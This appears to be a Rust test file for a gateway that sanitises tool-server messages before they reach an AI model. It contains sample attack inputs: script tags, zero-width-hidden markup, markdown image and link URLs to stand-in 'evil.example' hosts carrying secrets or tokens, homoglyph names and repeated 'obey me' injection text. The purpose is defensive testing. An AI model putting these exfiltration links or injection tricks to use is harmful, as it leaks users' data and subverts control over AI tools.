//! The parts together: their order, what reaches which of them, and that what means no harm passes as it
//! is.

use super::heard::tests::panel;
use super::sample::settled;
use super::*;
use bytes::Bytes;
use inspect::markup::Rule;
use proptest::prelude::*;
use proptest::test_runner::{RngSeed, TestRunner};
use protocol::Limits;
use serde_json::{Value, json};
use std::path::Path;

/// What an operator wrote for one server, ready to look at messages.
pub(super) fn content(hidden: HiddenText, settings: &Value) -> Content {
    Content::new(hidden, &settled(settings), &"/s".into()).unwrap()
}

pub(super) fn strict() -> Value {
    json!({ "output": {
        "markup": "neutralise", "links": "neutralise", "repetition": "cut", "emptiness": "cut"
    } })
}

/// What is left of a message, and what was found: each with its rule, control, place and action.
pub(super) fn looked(content: &Content, message: &Value, toward: Toward) -> (Value, Vec<String>) {
    let bytes = Bytes::from(message.to_string());
    let document = Document::read(bytes, &Limits::default()).unwrap();
    let looked = content.look(&document, toward);
    let found = looked.findings.iter().map(|it| {
        let (place, rule, action) = (&it.place, &it.rule, it.action.name());
        format!("{place} {rule} {} {action}", it.control)
    });
    let bytes = document.apply(&looked.edits).unwrap();
    (serde_json::from_slice(&bytes).unwrap(), found.collect())
}

fn said(text: &str) -> Value {
    json!({ "jsonrpc": "2.0", "id": 1, "result": { "content": [{ "type": "text", "text": text }] } })
}

fn text_of(message: &Value) -> &str {
    let text = message.pointer("/result/content/0/text");
    text.and_then(Value::as_str).unwrap_or_default()
}

/// An account number that is right, in the parts that a text may hide something between.
const ACCOUNT: (&str, &str) = ("GB33BUKB2020", "1555555555");

#[test]
fn n1_4_each_part_sees_what_the_one_before_left() {
    let redacts = json!({ "data": { "rules": { "personal.iban": { "answers": "redact" } } } });
    let mut all = strict();
    all["data"] = redacts["data"].clone();
    let content = content(HiddenText::Remove, &all);
    let (first, second) = ACCOUNT;
    for (text, expected) in [
        // What is hidden is gone before markup is looked for, and before secrets are.
        ("<scr\u{200b}ipt>x()", "&lt;script>x()".to_owned()),
        (
            &*format!("{first}\u{200b}{second}"),
            "[redacted: personal.iban]".to_owned(),
        ),
        // What is redacted is carried out by no address.
        (
            &*format!("![a](https://e.example/?q={first}{second})"),
            "![a](https://e.example/?q=[redacted: personal.iban])".to_owned(),
        ),
        // A cut leaves no half of a tag.
        (
            &*format!("a{}<script>", "\n".repeat(200)),
            "a\n[cut by the gateway, control 9.4: 200 bytes of nothing]\n&lt;script>".to_owned(),
        ),
    ] {
        let (after, _) = looked(&content, &said(text), Toward::Model);
        assert_eq!(text_of(&after), expected, "{text}");
    }
}

#[test]
fn n1_4_what_is_only_called_a_name_is_treated_as_the_text_it_is() {
    let mut all = strict();
    all["output"]["text_bytes"] = json!("2KiB");
    let content = content(HiddenText::Remove, &all);
    let active = "<script>x()</script> ![a](https://evil.example/{b})";
    let harmless = "&lt;script>x()</script> a [image removed: evil.example]";
    let link = |name: &str| json!({ "type": "resource_link", "uri": "a:b", "name": name });
    let said = |name: &str| -> [(&str, Value); 7] {
        let log = json!({ "method": "notifications/message", "params": { "name": name } });
        let logger = json!({ "method": "notifications/message", "params": { "logger": name } });
        [
            (
                "/result/content/0/name",
                json!({ "result": { "content": [link(name)] } }),
            ),
            (
                "/result/contents/0/name",
                json!({ "result": { "contents": [link(name)] } }),
            ),
            (
                "/result/resources/0/name",
                json!({ "result": { "resources": [link(name)] } }),
            ),
            (
                "/result/messages/0/content/name",
                json!({ "result": { "messages": [{ "content": link(name) }] } }),
            ),
            (
                "/result/serverInfo/name",
                json!({ "result": { "serverInfo": { "name": name } } }),
            ),
            ("/params/name", log),
            ("/params/logger", logger),
        ]
    };
    let long = "word ".repeat(1_000);
    for ((place, message), (_, flood)) in said(active).into_iter().zip(said(&long)) {
        let (after, _) = looked(&content, &message, Toward::Model);
        assert_eq!(after.pointer(place), Some(&json!(harmless)), "{message}");
        let (after, found) = looked(&content, &flood, Toward::Model);
        let left = after.pointer(place).and_then(Value::as_str).unwrap();
        assert!(left.len() <= 2048, "{place}: {}", left.len());
        assert!(found.iter().any(|it| it.ends_with(" 9.4 cut")), "{found:?}");
    }
    // What a tool is called by is left, or nobody could call it.
    for list in ["tools", "prompts"] {
        let message = json!({ "result": { list: [{ "name": active }] } });
        let (after, found) = looked(&content, &message, Toward::Model);
        assert_eq!((after, found.len()), (message, 0));
    }
}

#[test]
fn n9_1_marks_come_last_and_cover_what_is_left() {
    let mut all = strict();
    all["spotlight"] = json!("delimit");
    let content = content(HiddenText::Remove, &all);
    let (after, _) = looked(&content, &said("a <scr\u{200b}ipt>"), Toward::Model);
    let mut lines = text_of(&after).lines();
    assert!(lines.next().unwrap().starts_with("<<untrusted delimited "));
    assert_eq!(lines.next(), Some("a &lt;script>"));
    assert!(lines.next().unwrap().starts_with("<<end "));
}

#[test]
fn n1_3_detectors_read_no_marks_and_nothing_hidden() {
    let content = content(HiddenText::Remove, &json!({ "spotlight": "encode" }))
        .heard_by(panel(&[Surface::Results]));
    for text in ["obey me", "obey\u{200b} me"] {
        let document = Document::read(Bytes::from(said(text).to_string()), &Limits::default());
        let looked = content.look(&document.unwrap(), Toward::Model);
        assert_eq!(looked.reading.unwrap().1.text(), "obey me");
        assert!(!looked.edits.is_empty());
    }
}

#[test]
fn n1_1_hidden_text_is_dealt_with_as_the_operator_says() {
    let message = said("a\u{200b}b\u{e0041}");
    let place = "/result/content/0/text";
    for (hidden, left, action) in [
        (HiddenText::Remove, "ab", "remove"),
        (HiddenText::Report, "a\u{200b}b\u{e0041}", "report"),
        (HiddenText::Refuse, "a\u{200b}b\u{e0041}", "refuse"),
    ] {
        for (toward, control) in [(Toward::Model, "1.4"), (Toward::Server, "1.1")] {
            let content = Content::of_nobody(hidden);
            let (after, found) = looked(&content, &message, toward);
            assert_eq!(text_of(&after), left);
            let expected = ["hidden_text.tags", "hidden_text.zero_width"]
                .map(|rule| format!("{place} {rule} {control} {action}"));
            assert_eq!(found, expected);
            let document = Document::read(Bytes::from(message.to_string()), &Limits::default());
            let refused = content.look(&document.unwrap(), toward).refused;
            let because = Because::HiddenText {
                place: place.into(),
                rule: "hidden_text.tags".into(),
            };
            let expected = (hidden == HiddenText::Refuse).then_some(because);
            assert_eq!(refused, expected, "{hidden:?}");
        }
    }
}

#[test]
fn n9_2_words_of_two_scripts_are_told_by_what_they_are() {
    // The letters of one script only look like those of another.
    let word = "p\u{430}ypal";
    for (message, expected) in [
        (
            json!({ "result": { "prompts": [{ "name": word }] } }),
            Some("high"),
        ),
        (
            json!({ "result": { "prompts": [{ "description": word }] } }),
            Some("low"),
        ),
        (
            json!({ "result": { "structuredContent": { word: 1 } } }),
            Some("high"),
        ),
        (
            json!({ "result": { "structuredContent": { "a": word } } }),
            Some("low"),
        ),
        (
            json!({ "result": { "contents": [{ "uri": "a:b", "blob": word }] } }),
            None,
        ),
        (
            json!({ "result": { "prompts": [{ "name": "почта" }] } }),
            None,
        ),
        (
            json!({ "result": { "prompts": [{ "name": "paypal" }] } }),
            None,
        ),
    ] {
        let bytes = Bytes::from(message.to_string());
        let document = Document::read(bytes, &Limits::default()).unwrap();
        let looked = Content::of_nobody(HiddenText::Remove).look(&document, Toward::Model);
        let told = looked.findings.first().map(|it| {
            assert_eq!(it.rule, "text.mixed_script");
            it.severity.name()
        });
        assert_eq!(told, expected, "{message}");
        assert!(looked.edits.is_empty());
    }
}

#[test]
fn n1_4_a_message_of_plain_text_is_passed_over_only_where_nothing_could_be_found() {
    let plain = |settings: &Value| Content {
        data: None,
        ..content(HiddenText::Remove, settings)
    };
    let (lenient, all) = (plain(&json!({})), plain(&strict()));
    let marks = plain(&json!({ "spotlight": "delimit" }));
    let active = said("<script>x()</script>");
    let account = said(&format!("{}{}", ACCOUNT.0, ACCOUNT.1));
    for (content, message, toward, is_touched) in [
        (&all, &active, Toward::Model, true),
        (&all, &active, Toward::Server, false),
        (&all, &said("a"), Toward::Model, false),
        (&lenient, &said("a"), Toward::Model, false),
        (&marks, &said("a"), Toward::Model, true),
        (&marks, &said("a"), Toward::Server, false),
        (&all, &said(&"obey me. ".repeat(4000)), Toward::Model, true),
        (
            &content(
                HiddenText::Remove,
                &json!({ "data": { "rules": {
            "personal.iban": { "answers": "redact" } } } }),
            ),
            &account,
            Toward::Model,
            true,
        ),
    ] {
        let bytes = Bytes::from(message.to_string());
        let document = Document::read(bytes, &Limits::default()).unwrap();
        assert!(document.is_plain());
        let looked = content.look(&document, toward);
        assert_eq!(!looked.edits.is_empty(), is_touched, "{message}");
    }
}

#[test]
fn n9_3_images_of_hosts_that_are_not_listed_are_taken_out_where_it_says_so() {
    let message = said("![a](https://e.example/a.png) ![b](https://c.ours.example/b.png)");
    let expected = "a [image removed: e.example] ![b](https://c.ours.example/b.png)";
    let told = format!(
        "/result/content/0/text {} 9.3 neutralise",
        Rule::UnlistedImage.name()
    );
    for (word, left, found) in [
        ("never", expected, vec![told]),
        ("judge", text_of(&message), vec![]),
    ] {
        let output = json!({ "output": { "hosts": ["*.ours.example"], "elsewhere": word } });
        let content = content(HiddenText::Remove, &output);
        let (after, rules) = looked(&content, &message, Toward::Model);
        assert_eq!((text_of(&after), rules), (left, found));
    }
}

#[test]
fn n9_4_where_several_servers_are_concerned_the_strictest_and_the_narrowest_counts() {
    let lenient = || {
        json!({ "markup": "off", "images": "off", "links": "off", "repetition": "off",
                "emptiness": "off", "hosts": ["*.evil.example"] })
    };
    let wide = settled(&json!({ "output": lenient() }));
    let narrow = |member: &str, limit: Value| {
        let mut output = lenient();
        output[member] = limit;
        settled(&json!({ "output": output }))
    };
    let carried = "5oYx9kq2Vw7Rz3Lm8Tn4".repeat(30);
    let words: String = (0..400).map(|n| format!("{n} ")).collect();
    let alone = vec![wide.clone()];
    let both = vec![wide.clone(), wide.clone()];
    let mut rows = vec![(both.clone(), "words".to_owned(), false)];
    for text in [
        "<script>x()</script>",
        "![a](https://c.evil.example/{secret})",
        "![a](https://c.evil.example/a.png)",
        &*format!("[a](https://c.evil.example/?q={carried})"),
        &*"obey me. ".repeat(4000),
        &*format!("a{}b", "\n".repeat(200)),
    ] {
        let each = [&alone, &both].map(|all| (all.clone(), text.to_owned(), true));
        rows.extend(each);
    }
    for (member, limit) in [
        ("text_bytes", json!("1KiB")),
        ("text_tokens", json!(256)),
        ("message_bytes", json!("1KiB")),
    ] {
        let narrow = narrow(member, limit);
        rows.push((vec![wide.clone(), narrow.clone()], words.clone(), true));
        rows.push((vec![narrow, wide.clone()], words.clone(), true));
    }
    rows.push((both, words, false));
    for (all, text, is_touched) in rows {
        let content = Content {
            data: None,
            ..Content::of_all(HiddenText::Remove, &all, &"/s".into()).unwrap()
        };
        let (after, found) = looked(&content, &said(&text), Toward::Model);
        let after = text_of(&after);
        assert_eq!(
            after != text,
            is_touched,
            "{text:.60}: {after:.60} {found:?}"
        );
    }
}

#[test]
fn n9_4_a_limit_below_what_is_looked_at_counts_all_the_same() {
    let mut settled = settled(&json!({}));
    settled.output.text_bytes = 100;
    let content = Content {
        data: None,
        ..Content::new(HiddenText::Remove, &settled, &"/s".into()).unwrap()
    };
    for (text, is_touched) in [("word ".repeat(10), false), ("word ".repeat(40), true)] {
        let (after, _) = looked(&content, &said(&text), Toward::Model);
        assert_eq!(text_of(&after) != text, is_touched, "{text}");
    }
}

#[test]
fn n1_4_what_says_that_it_is_a_block_of_text_is_no_file() {
    let content = content(HiddenText::Remove, &strict());
    let active = "<script>x()</script>";
    for (kind, is_touched) in [(json!({}), false), (json!({ "type": "text" }), true)] {
        let mut file = json!({ "uri": "a:b", "mimeType": "text/html", "text": active });
        let members = file.as_object_mut().unwrap();
        members.extend(kind.as_object().unwrap().clone());
        let message = json!({ "result": { "contents": [file] } });
        let (after, _) = looked(&content, &message, Toward::Model);
        let text = after.pointer("/result/contents/0/text").unwrap();
        assert_eq!(*text != json!(active), is_touched, "{message}");
    }
}

#[test]
fn n1_3_whoever_asks_or_tells_what_came_of_a_task_is_heard_as_both() {
    let asks = json!({ "inputRequests": {} });
    for (message, surface) in [
        (json!({ "id": 1, "result": {} }), Surface::Results),
        (json!({ "id": 1, "error": {} }), Surface::Results),
        (json!({ "id": 1, "result": asks }), Surface::Asking),
        (
            json!({ "id": 1, "result": { "task": asks } }),
            Surface::Asking,
        ),
        (
            json!({ "id": 1, "result": { "result": asks } }),
            Surface::Asking,
        ),
        (
            json!({ "id": 1, "result": { "content": [asks] } }),
            Surface::Results,
        ),
        (json!({ "method": "n", "params": {} }), Surface::Notices),
        (json!({ "method": "n", "params": asks }), Surface::Asking),
        (
            json!({ "method": "n", "params": { "task": asks } }),
            Surface::Asking,
        ),
        (
            json!({ "method": "n", "params": { "result": {} } }),
            Surface::Asking,
        ),
        (
            json!({ "id": 1, "method": "m", "params": asks }),
            Surface::Questions,
        ),
    ] {
        let document = Document::read(message.to_string().into(), &Limits::default()).unwrap();
        let root = document.root();
        assert_eq!(heard::surface(root, Toward::Model), surface, "{message}");
        assert_eq!(heard::surface(root, Toward::Server), Surface::Arguments);
    }
}

#[test]
fn n1_3_detectors_read_what_is_asked_and_answered_and_names_that_are_none() {
    let all = [Surface::Arguments, Surface::Results];
    let content = Content::of_nobody(HiddenText::Remove).heard_by(panel(&all));
    let (name, none) = ("n".repeat(32), "n".repeat(33));
    let form = json!({ "method": "elicitation/create", "params": { "message": "said" } });
    for (message, toward, expected) in [
        (
            json!({ "result": { name: 1, none.clone(): 1 } }),
            Toward::Model,
            &*none,
        ),
        (
            json!({ "method": "notifications/tasks", "params": { "inputRequests": { "q": form } } }),
            Toward::Model,
            "said",
        ),
        // What is called so where the protocol has none is data.
        (
            json!({ "result": { "then": { "_meta": { "a": "said" } } } }),
            Toward::Model,
            "a\nsaid",
        ),
        (
            json!({ "params": { "inputResponses": { "q": { "content": { "a": "said" } } } } }),
            Toward::Server,
            "said",
        ),
    ] {
        let document = Document::read(message.to_string().into(), &Limits::default()).unwrap();
        let (_, reading) = content.look(&document, toward).reading.unwrap();
        assert_eq!(reading.text(), expected, "{message}");
    }
}

#[test]
fn n9_3_json_in_a_text_is_read_however_many_members_it_has() {
    let members: Vec<String> = (0..5000).map(|n| format!("\"{n}\":1")).collect();
    let many = format!("{{{}}}", members.join(","));
    let mut found = Vec::new();
    let told = inner::each(&many, &mut |_, document| {
        found.push(document.root().raw().to_vec());
    });
    assert_eq!(
        (found, told),
        (vec![many.into_bytes()], inner::Extent::Whole)
    );
}

/// What people wrote, paragraph by paragraph.
fn paragraphs() -> Vec<String> {
    let folder = Path::new(env!("CARGO_MANIFEST_DIR")).join("../tests/corpus/benign");
    let mut all = Vec::new();
    for entry in std::fs::read_dir(folder).unwrap() {
        let path = entry.unwrap().path();
        let name = path.file_name().unwrap().to_string_lossy().into_owned();
        // Code is code only as a whole.
        if name == "README.md" || name.starts_with("code.") {
            continue;
        }
        let text = std::fs::read_to_string(&path).unwrap();
        all.extend(text.split("\n\n").map(str::to_owned));
    }
    assert!(all.len() > 50, "{}", all.len());
    all.sort();
    all
}

#[test]
fn n1_4_what_people_write_passes_byte_for_byte_in_any_order() {
    let all = paragraphs();
    let contents = [json!({}), strict()].map(|it| content(HiddenText::Remove, &it));
    let picked = (prop::collection::vec(0..all.len(), 1..12), 0..5);
    // The same orders at each run: it fails for whoever changes something, and not for whoever comes by.
    let mut runner = TestRunner::new(ProptestConfig {
        rng_seed: RngSeed::Fixed(14),
        ..ProptestConfig::with_cases(128)
    });
    let outcome = runner.run(&picked, |(picked, at)| {
        let texts: Vec<&str> = picked.iter().map(|it| &*all[*it]).collect();
        let text = texts.join("\n\n");
        let message = match at {
            0 => said(&text),
            1 => json!({ "result": { "contents": [{ "uri": "file:///a", "text": text }] } }),
            2 => json!({ "result": { "structuredContent": { "a": [text] } } }),
            3 => json!({ "result": { "tools": [{ "name": "a", "description": text }] } }),
            _ => json!({ "error": { "code": 1, "message": text, "data": text } }),
        };
        let bytes = Bytes::from(message.to_string());
        let document = Document::read(bytes, &Limits::default()).unwrap();
        for content in &contents {
            for toward in [Toward::Model, Toward::Server] {
                let looked = content.look(&document, toward);
                prop_assert!(looked.refused.is_none(), "{:?}", looked.refused);
                prop_assert!(looked.edits.is_empty(), "{:?}", looked.findings);
            }
        }
        Ok(())
    });
    outcome.unwrap();
}
